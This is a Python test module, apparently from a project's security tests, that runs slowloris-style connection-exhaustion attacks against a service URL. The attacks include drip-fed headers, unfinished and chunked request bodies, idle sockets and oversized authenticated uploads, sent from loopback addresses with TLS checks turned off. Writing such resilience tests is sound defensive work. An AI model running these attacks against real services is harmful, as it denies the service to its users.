"""`python -m tests.menaces.prises NAME URL [TOKEN…]`: take everybody's places, until killed.

Connections come from addresses of the loopback; who is cut comes again. Prints a line once all have
come. To try another way, add a line to `ATTAQUES`.
"""

import argparse
import asyncio
import ssl
import sys
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from itertools import cycle
from typing import Final
from urllib.parse import urlsplit

_REPOS: Final = 1.0  # seconds before who was cut comes again
_FRONTIERE: Final = "frontiere"


@dataclass(frozen=True)
class Attaque:
    """`nombre` connections from these addresses: `debut` once, then `goutte` again and again.

    `debut` takes one of the tokens given, `id.secret`; `attente` is in seconds.
    """

    nombre: int
    adresses: tuple[str, ...]
    debut: Callable[[str], bytes]
    goutte: bytes = b""
    attente: float = 1.0


def _rien(_: str) -> bytes:
    return b""


def _tete(_: str) -> bytes:
    return b"GET /v1/campagne HTTP/1.1\r\nHost: x\r\nX-Long: "


def _corps(_: str) -> bytes:
    return (
        b"POST /v1/acces/liens/echange HTTP/1.1\r\nHost: x\r\n"
        b"Content-Type: application/json\r\nContent-Length: 100\r\n\r\n"
    )


def _gros_corps(_: str) -> bytes:
    """Without a size: it has the time of a small one."""
    return (
        b"POST /v1/validation HTTP/1.1\r\nHost: x\r\n"
        b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    )


def _envoi(jeton: str) -> bytes:
    """A file that has sent what a place is given for."""
    id, _, secret = jeton.partition(".")
    partie = f'--{_FRONTIERE}\r\nContent-Disposition: form-data; name="fichier"; filename="a.pdf"'
    return (
        f"POST /v1/candidatures/{id}/pieces-jointes HTTP/1.1\r\nHost: x\r\n"
        f"Authorization: Bearer {secret}\r\nContent-Length: 50000000\r\n"
        f"Content-Type: multipart/form-data; boundary={_FRONTIERE}\r\n\r\n{partie}\r\n\r\n"
    ).encode() + bytes(70_000)


_DEUX: Final = ("127.0.0.2", "127.0.0.3")
_TROIS: Final = (*_DEUX, "127.0.0.4")
ATTAQUES: Final = {
    "corps": Attaque(512, _DEUX[:1], _corps, b"{"),
    "corps_sans_taille": Attaque(512, _DEUX[:1], _gros_corps, b"1\r\n \r\n"),
    "prises_muettes": Attaque(1_000, _TROIS, _rien),
    "tetes": Attaque(1_000, _TROIS, _tete, b"a"),
    "envois": Attaque(32, _DEUX, _envoi, bytes(20_000)),
}


class _Meneur:
    """Leads an attack on the service at `url`."""

    def __init__(self, attaque: Attaque, url: str, jetons: list[str]) -> None:
        adresse = urlsplit(url)
        self._hote, self._port = adresse.hostname or "", adresse.port or 80
        self._tls = None
        if adresse.scheme == "https":
            self._tls = ssl.create_default_context()
            self._tls.check_hostname, self._tls.verify_mode = False, ssl.CERT_NONE
        self._attaque = attaque
        self._jetons = cycle(jetons or [""])
        self._restent = attaque.nombre

    async def mener(self) -> None:
        adresses = cycle(self._attaque.adresses)
        async with asyncio.TaskGroup() as groupe:
            for _ in range(self._attaque.nombre):
                groupe.create_task(self._insister(next(adresses), next(self._jetons)))

    async def _insister(self, adresse: str, jeton: str) -> None:
        venue = False
        while True:
            with suppress(OSError, asyncio.IncompleteReadError):
                lecture, ecriture = await asyncio.open_connection(
                    self._hote, self._port, ssl=self._tls, local_addr=(adresse, 0)
                )
                ecriture.write(self._attaque.debut(jeton))
                self._restent -= not venue
                if not (venue or self._restent):
                    print("venues", file=sys.stdout, flush=True)  # noqa: T201 -- who waits for it
                venue = True
                await self._tenir(lecture, ecriture)
            await asyncio.sleep(_REPOS)

    async def _tenir(self, lecture: asyncio.StreamReader, ecriture: asyncio.StreamWriter) -> None:
        """Until the other end has had enough."""
        fin = asyncio.ensure_future(lecture.read(1))
        try:
            while not (await asyncio.wait([fin], timeout=self._attaque.attente))[0]:
                ecriture.write(self._attaque.goutte)
        finally:
            fin.cancel()
            ecriture.transport.abort()


def main() -> None:
    """Lead the attack that the command line names."""
    lecteur = argparse.ArgumentParser(description=__doc__)
    lecteur.add_argument("nom", choices=ATTAQUES)
    lecteur.add_argument("url")
    lecteur.add_argument("jetons", nargs="*")
    lu = lecteur.parse_args()
    asyncio.run(_Meneur(ATTAQUES[lu.nom], lu.url, lu.jetons).mener())


if __name__ == "__main__":
    main()
